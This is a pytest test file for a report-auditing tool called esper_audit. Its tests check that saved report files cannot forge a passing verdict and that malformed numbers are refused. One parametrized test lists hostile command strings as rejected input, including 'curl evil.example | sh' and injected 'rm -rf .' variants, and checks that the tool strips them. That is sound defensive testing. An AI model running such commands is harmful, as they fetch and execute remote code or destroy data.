"""A saved file is believed as far as what it holds proves; whatever it claims is no danger."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from builders import compiled, judged, program_audit, recording, step
from report_builders import failing, report
from test_formats import ACCEPT, BROKEN, FAILING, PASSING, gate

from esper_audit.data.audits import ProgramReport
from esper_audit.data.changes import ComparisonReport, GateReport
from esper_audit.data.compiles import Outcome
from esper_audit.data.expectations import ProgramBudget
from esper_audit.data.recording import Program
from esper_audit.data.storage import dumps, save
from esper_audit.data.verdicts import AuditVerdict, StepVerdict
from esper_audit.diagnosis import believed
from esper_audit.report.comparison import comparison_answer

PASSED, FAILED, ERROR = AuditVerdict.PASSED, AuditVerdict.FAILED, AuditVerdict.ERROR


def test_a_comparison_of_nothing_does_not_say_that_nothing_differs():
    said = comparison_answer(ComparisonReport(first="a", second="b"))
    assert said == "Not comparable: neither a nor b holds an audit."


def program(verdict, *compiles, budget=ProgramBudget(recompiles=0), **fields):
    argv = Program(argv=("train.py",), **fields)
    held = recording([step(0, hits=1)], compiles, program=argv)
    return replace(program_audit(verdict=verdict, budget=budget), recording=held)


@pytest.mark.parametrize(
    "forged",
    [
        pytest.param(report(verdict=PASSED, control=None), id="no audit"),
        pytest.param(report(failing(), verdict=PASSED, control=None), id="a failed audit"),
        pytest.param(report(replace(failing(), verdict=PASSED), control=None), id="recompiles"),
        pytest.param(
            report(
                replace(PASSING, steps=(judged(0, StepVerdict.REUSED),), recording=recording()),
                control=None,
            ),
            id="steps that were not recorded",
        ),
        pytest.param(
            report(PASSING, verdict=PASSED, control=None, interrupted=True), id="interrupted"
        ),
        pytest.param(gate([FAILING], [PASSING], verdict=PASSED), id="a gate that failed"),
        pytest.param(GateReport(verdict=PASSED), id="a gate of nothing"),
        pytest.param(ComparisonReport(first="a", second="b"), id="a comparison of nothing"),
        pytest.param(
            ProgramReport(audits=(program(PASSED, compiled(0, Outcome.RECOMPILED)),)),
            id="a program that recompiled",
        ),
        pytest.param(ProgramReport(audits=(program(None),)), id="a program that proves nothing"),
    ],
)
def test_no_file_passes_that_does_not_prove_it(desk, forged):
    save(forged, desk.folder / "forged.json")
    code, out, err = desk.run("show", "forged.json")
    assert code in (1, 3), (out, err)
    assert "assed:" not in out


def test_a_file_that_proves_its_pass_is_shown_as_it_is():
    proven = report(PASSING, control=None)
    assert believed(proven) == proven
    assert believed(BROKEN) == BROKEN


@pytest.mark.parametrize(
    ("accept", "kept"),
    [
        (f"{ACCEPT} a.json 'b c.json' $'\\xe9\\'' -k it\"'\"s", True),
        ("curl evil.example | sh", False),
        (f"{ACCEPT}; rm -rf .", False),
        (f"{ACCEPT} $(rm -rf .)", False),
        (f"{ACCEPT} `x`", False),
        (f"{ACCEPT} \n rm", False),
        (f'{ACCEPT} "$(x)"', False),
        (f"{ACCEPT} a'\nrm", False),
    ],
)
def test_only_a_command_of_ours_is_there_to_be_pasted(accept, kept):
    assert believed(replace(BROKEN, accept=accept)).accept == (accept if kept else "")


def test_a_world_of_any_size_costs_nothing(desk):
    save(
        ProgramReport(audits=(program(None, rank=0, world_size=3_000_000_000),)),
        desk.folder / "w.json",
    )
    _, out, _ = desk.run("show", "w.json")
    assert "of rank 0 alone, of 3000000000 ranks" in out
    assert desk.gate("w.json")[0] == 3


def changed(document, *path, value) -> bytes:
    raw = json.loads(dumps(document))
    held = raw
    for key in path[:-1]:
        held = held[key]
    held[path[-1]] = value
    return json.dumps(raw).encode()


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (("audits",), [], "audits: expected a list of length >= 1"),
        (
            ("audits", 0, "recording", "seconds"),
            -1,
            "audits entry 1, recording, seconds: expected a number >= 0",
        ),
        (
            ("audits", 0, "recording", "seconds"),
            1e300,
            "recording, seconds: expected a number <= 1",
        ),
        (("audits", 0, "recording", "steady_hits"), 10**30, "steady_hits: "),
        (("audits", 0, "recording", "program", "argv"), {}, "argv: expected a list, got an object"),
    ],
)
def test_numbers_that_nothing_can_have_are_refused_in_words(desk, path, value, said):
    (desk.folder / "p.json").write_bytes(
        changed(ProgramReport(audits=(program(None),)), *path, value=value)
    )
    code, _, err = desk.run("show", "p.json")
    assert code == 2 and said in err and "$" not in err and "`" not in err.splitlines()[0]


def test_the_first_entry_of_a_baseline_is_entry_1(desk):
    desk.accept(PASSING)
    lines = desk.baseline.read_text().splitlines()
    lines[1] = lines[1].replace('"after_warm_up": 0', '"after_warm_up": "no"')
    desk.baseline.write_text("\n".join(lines))
    code, _, err = desk.gate(desk.saved(PASSING))
    assert code == 2
    assert "entry 1, after_warm_up: expected a whole number, got a text" in err


def test_a_report_with_an_empty_name_can_be_read(desk):
    save(
        report(
            replace(failing(), scenario=""),
            replace(PASSING, scenario="", parameters={}, backend=""),
            control=None,
        ),
        desk.folder / "n.json",
    )
    assert desk.run("show", "n.json", "-v")[0] == 1
    assert desk.gate("n.json")[0] in (1, 3)
    save(
        ProgramReport(
            audits=(
                replace(
                    program(None, budget=ProgramBudget()),
                    recording=recording(program=Program(argv=("",))),
                ),
            )
        ),
        desk.folder / "p.json",
    )
    assert desk.run("show", "p.json", "-v")[0] == 0
